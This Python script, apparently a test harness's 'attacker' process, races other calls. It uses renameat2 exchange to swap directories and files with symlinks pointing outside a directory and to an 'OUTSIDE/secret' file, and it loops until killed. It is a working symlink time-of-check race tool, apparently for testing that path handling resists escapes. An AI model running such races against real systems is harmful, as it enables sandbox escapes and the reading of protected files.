"""Runs inside: swaps directories, files and links under a call's feet, as fast as it can, until it is killed.

`python3 attacker.py OUTSIDE FROM_BELOW`, in a directory that holds `swap` (a directory and a link to OUTSIDE by
turns), `tree/a/b` (likewise, to FROM_BELOW), `name` (a file and a link to OUTSIDE/secret by turns) and `wander`,
which moves up and down. It makes what is missing again, as calls remove it.
"""

import ctypes
import os
import sys

EXCHANGE, AT_FDCWD = 2, -100
outside, from_below = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
swaps = 0


def exchange(one: bytes, other: bytes) -> bool:
    return libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, EXCHANGE) == 0


def ensure() -> None:
    for folder in ("swap", "tree/a/b/c", "far/away", "wander/x/y/z", "spare"):
        try:
            os.makedirs(folder, exist_ok=True)
        except OSError:
            pass
    for path in ("name", "swap/f", "tree/a/b/f", "tree/a/b/c/g", "wander/x/y/z/f"):
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_NOFOLLOW, 0o644))
        except OSError:
            pass
    for link, target in (("l1", outside), ("l2", from_below), ("l3", outside + "/secret")):
        try:
            os.symlink(target, link)
        except OSError:
            pass


while True:
    ensure()
    for _ in range(50):
        exchange(b"swap", b"l1")
        exchange(b"tree/a/b", b"l2")
        exchange(b"name", b"l3")
        try:
            os.rename("wander/x/y", "far/away/y")
            os.rename("far/away/y", "wander/x/y")
            os.rename("wander", "far/wander")
            os.rename("far/wander", "wander")
        except OSError:
            pass
        swaps += 1
    for one, link in (("swap", "l1"), ("tree/a/b", "l2"), ("name", "l3")):
        # Whatever a call left: the links are links again, the rest goes.
        if os.path.islink(one) and not os.path.islink(link):
            exchange(one.encode(), link.encode())
